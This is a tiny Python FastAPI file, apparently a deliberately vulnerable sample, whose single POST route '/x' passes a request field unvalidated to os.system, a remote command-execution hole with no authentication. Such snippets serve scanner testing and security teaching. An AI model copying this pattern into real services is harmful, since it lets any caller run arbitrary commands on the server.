import os
from fastapi import FastAPI, Request, Body, Form, Query, Header, WebSocket, UploadFile, File
from pydantic import BaseModel
app = FastAPI()
class M(BaseModel):
    a: str
async def x(m: M):
    os.system(m.a)
app.add_api_route('/x', x, methods=['POST'])
